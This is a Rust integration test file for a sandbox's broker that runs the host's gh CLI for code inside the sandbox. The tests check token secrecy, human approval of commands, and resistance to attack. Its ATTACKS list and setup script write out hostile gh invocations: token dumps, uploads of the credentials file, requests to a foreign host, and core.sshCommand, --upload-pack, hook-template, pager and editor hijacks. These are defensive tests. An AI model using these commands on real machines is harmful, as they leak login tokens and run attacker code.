//! gh on the host, asked for from inside by the host-exec broker: the real program, with its user's
//! own login, against servers that answer as GitHub's.

use std::os::unix::fs::PermissionsExt as _;
use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

use pinfold_testkit::User;
use pinfold_testkit::git_attacks::PLANTS;

use super::World;
use super::github::{REAL, repositories, seen};
use super::world::{Said, people_with};

/// Another host than GitHub's, which would like to have the login, too.
const ELSEWHERE: &str = "other.example.org";

/// A world whose person is logged in to GitHub by gh, with this under `[hostExec]`.
fn world(person: User, settings: &str) -> World {
    let world = World::prepared(person, &["github", "elsewhere"], |stage| {
        repositories(stage);
        let login = format!("github.com:\n    user: me\n    oauth_token: {REAL}\n");
        let hosts = stage.write("home/.config/gh/hosts.yml", login);
        std::fs::set_permissions(hosts, std::fs::Permissions::from_mode(0o600)).unwrap();
    });
    world.config(&format!("[hostExec]\n{settings}\n"));
    world
}

#[test]
fn the_hosts_gh_works_with_a_login_that_is_not_inside() {
    let settings = "onPath = [\"gh\"]\nautoApprove = [\n\
        { executable = \"gh\", argsPrefix = [\"api\", \"user\"] },\n\
        { executable = \"gh\", argsPrefix = [\"issue\"], argsExcludes = [\"--repo\", \"-R\"] },\n\
        { executable = \"gh\", argsPrefix = [\"pr\"] }]";
    let script = "echo \"token $(env | grep -c -e GH_TOKEN -e ghp_)\"; gh api user --jq .login; gh pr list\n\
        echo A long text | gh issue create --title Wrong --body-file -\n\
        pinfold-host gh pr create --title Change --body Better --base main --head change\n\
        pinfold-host --json gh issue view 5 --json title </dev/null; echo\n\
        gh issue list -R them/other 2>&1; echo excluded $?; gh release list 2>&1; echo refused $?\n\
        curl -s -m 5 https://api.github.com/user; echo curl $?";
    for person in people_with("gh by the host", &["git", "gh", "curl"]) {
        let world = world(person, settings);
        let said = world.shell(&[], script);
        said.has(&["token 0\n", "me\n", "A first one", "https://github.com/me/tool/issues/5\n"]);
        said.has(&["https://github.com/me/tool/pull/7\n", r#""stdout":"{\"title\":\"Wrong\"}\n""#]);
        said.has(&["excluded 126\n", "refused 126\n", "no user can be asked"]);
        said.has(&[r#"{ executable = "gh", args = ["release", "list"] }"#]);
        assert!(!said.out.contains("curl 0") && !said.out.contains(REAL), "{said:?}");
        assert_eq!(seen(&world, &["IssueCreate", "A long text"]), (1, 1), "{}", world.seen());
        assert_eq!(seen(&world, &["PullRequestCreate", "Better"]), (1, 1), "{}", world.seen());
        assert_eq!(seen(&world, &["them"]), (0, 0), "{}", world.seen());
    }
}

/// A line of the record of what waits, once something does.
fn wait_for_request(world: &World) -> serde_json::Value {
    let started = Instant::now();
    loop {
        let listed = world.pinfold(&["approvals", "--json"]).output().unwrap();
        if let Some(first) = listed.stdout.split(|byte| *byte == b'\n').find(|it| !it.is_empty()) {
            return serde_json::from_slice(first).unwrap();
        }
        assert!(started.elapsed() < Duration::from_secs(30), "nothing is asked");
        std::thread::sleep(Duration::from_millis(20));
    }
}

fn answer(world: &World, words: &[&str]) -> serde_json::Value {
    let asked = wait_for_request(world);
    let id = asked["id"].to_string();
    let output = world.pinfold(&[&["approvals", words[0], &id], &words[1..]].concat()).output();
    assert!(output.as_ref().unwrap().status.success(), "{output:?}");
    asked
}

#[test]
fn a_person_sees_the_command_of_gh_whole_and_says_yes_or_no() {
    for person in people_with("gh and a person", &["git", "gh"]) {
        let world = world(person, "");
        let script = "pinfold-host gh issue create --title \"$(printf 'A\\033[2J')\" --body 'b c'; echo $?\n\
            pinfold-host gh repo delete me/tool --yes; echo $?; pinfold-host gh auth token; echo $?";
        let mut run = world.pinfold(&["run", "--wait-for-approvals", "--", "sh", "-c", script]);
        let run: Child = run.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
        let asked = answer(&world, &["approve"]);
        let shown = asked["command"].as_str().unwrap();
        assert_eq!(shown, r"gh issue create --title $'A\e[2J' --body 'b c'");
        answer(&world, &["deny", "--reason", "keep it"]);
        // What gives the login away is asked of nobody.
        let said = Said::of(run.wait_with_output().unwrap());
        said.has(&["issues/5\n0\n", "126\n126\n"]);
        assert!(said.err.contains("denied by its user: keep it"), "{said:?}");
        assert!(said.err.contains("the host does not run gh auth"), "{said:?}");
        assert_eq!(seen(&world, &["DELETE"]), (0, 0), "{}", world.seen());
    }
}

/// Ways to have gh on the host give its login to somebody, or run or read something.
const ATTACKS: &[&str] = &[
    "gh auth token",
    "gh auth status --show-token",
    "gh -h github.com auth token",
    "gh --help=false auth token",
    "gh config get -h github.com oauth_token",
    "gh config set browser \"$EVIL\"",
    "gh alias set --shell pr \"$EVIL\"",
    "gh evil",
    "gh extension install \"$PWD/evil\"",
    "gh codespace ssh",
    "gh repo clone them/other .. -- -c core.sshCommand=\"$EVIL\" --upload-pack=\"$EVIL\"",
    "gh repo clone them/other \"$HOME/cloned\" -- --template=\"$PWD/hooks\"",
    "gh pr checkout 7",
    "gh gist create /etc/hostname",
    "gh release download v1 -D ..",
    "gh api --hostname other.example.org user",
    "gh api https://other.example.org/user",
    "gh api away",
    "gh pr list -R other.example.org/them/other",
    "gh pr list -R https://other.example.org/them/other",
    "gh api user --input ../home/.config/gh/hosts.yml",
    "gh api user -F a=@../home/.config/gh/hosts.yml",
    "gh issue create --title x --body-file ../home/.config/gh/hosts.yml",
    "gh issue create --title x -F../home/.config/gh/hosts.yml",
    "gh pr create --title x --head x -dF ../home/.config/gh/hosts.yml",
    "gh release create v1 ../home/.config/gh/hosts.yml",
    "gh issue view 5 --web",
    "gh issue comment 5 --editor",
    "gh api user --jq env",
    "gh api user --template '{{env}}'",
];

#[test]
fn nothing_has_gh_on_the_host_give_its_login_away_or_run_or_read_what_the_inside_names() {
    for person in people_with("attacks on gh", &["git", "gh"]) {
        let world = world(person, "autoApprove = true\ntimeout = \"10s\"");
        let mark = world.stage.path("other/mark");
        let evil = format!("touch {}", mark.display());
        let all: Vec<String> = ATTACKS
            .iter()
            .map(|attack| {
                format!(
                    "echo \"== {}\"; pinfold-host {attack} </dev/null",
                    attack.replace(['"', '$'], "")
                )
            })
            .collect();
        // gh's own ways to be told of another configuration, and what is in it.
        let script = format!(
            "git remote add evil https://{ELSEWHERE}/them/other; export EVIL='{evil}'; mkdir -p evil hooks .config/gh; printf '#!/bin/sh\\n%s\\n' \"$EVIL\" >evil/evil\n\
             cp evil/evil evil/gh; cp evil/evil evil/git; cp evil/evil hooks/post-checkout; chmod +x evil/* hooks/*\n\
             printf 'browser: %s\\npager: %s\\neditor: %s\\naliases:\\n    evil: \"!%s\"\\n' \
             \"$EVIL\" \"$EVIL\" \"$EVIL\" \"$EVIL\" >evil/config.yml; cp evil/config.yml .config/gh/\n\
             export GH_CONFIG_DIR=$PWD/evil XDG_CONFIG_HOME=$PWD/.config GH_HOST={ELSEWHERE} GH_PAGER=\"$EVIL\" \
             PAGER=\"$EVIL\" GH_EDITOR=\"$EVIL\" EDITOR=\"$EVIL\" GH_BROWSER=\"$EVIL\" BROWSER=\"$EVIL\" \
             GH_FORCE_TTY=80 GH_DEBUG=api GH_PATH=$PWD/evil/gh GH_REPO={ELSEWHERE}/them/other GIT_DIR=$PWD/evil\n\
             {}; echo done",
            all.join("\n")
        );
        let said = world.shell(&[], &script);
        said.has(&["done\n"]);
        assert!(!mark.exists(), "{said:?}");
        // The server repeats the token in what it answers, which GitHub does not.
        let told: Vec<&str> = said.out.lines().filter(|line| line.contains("ghp_REAL")).collect();
        let is_echo = |line: &&str| line.contains("\"echo\"");
        assert!(told.iter().all(is_echo) && !said.err.contains(REAL), "{told:?}\n{}", said.err);
        assert_eq!(seen(&world, &[ELSEWHERE]).1, 0, "{}", world.seen());
        assert_eq!(seen(&world, &["oauth_token"]), (0, 0), "{}", world.seen());
        assert!(!world.stage.path("home/cloned").exists(), "{said:?}");
    }
}

#[test]
fn the_hosts_gh_runs_git_that_sees_nothing_of_what_the_inside_wrote() {
    for person in people_with("git under gh", &["git", "gh"]) {
        for (name, plant) in PLANTS {
            let world = world(person, "autoApprove = true");
            let mark = world.stage.path("other/mark");
            let evil = format!("touch {}", mark.display());
            let script = format!(
                "export EVIL='sh -c \"{evil}\"'; {plant}\n\
                 pinfold-host gh pr list </dev/null\n\
                 pinfold-host gh pr create --title T --body B --base main --head change </dev/null"
            );
            let said = world.shell(&[], &script);
            assert!(!mark.exists(), "{name}: {said:?}");
            said.has(&["A first one", "https://github.com/me/tool/pull/7\n"]);
        }
    }
}

#[test]
fn a_program_that_the_host_lacks_is_told_so() {
    for person in people_with("no moltnet", &["git", "gh"]) {
        let world = world(person, "autoApprove = true\nonPath = [\"moltnet\"]");
        let said = world.shell(&[], "moltnet entry list 2>&1; echo $?");
        said.has(&["moltnet is not on the host", "it is searched in PATH", "126\n"]);
    }
}
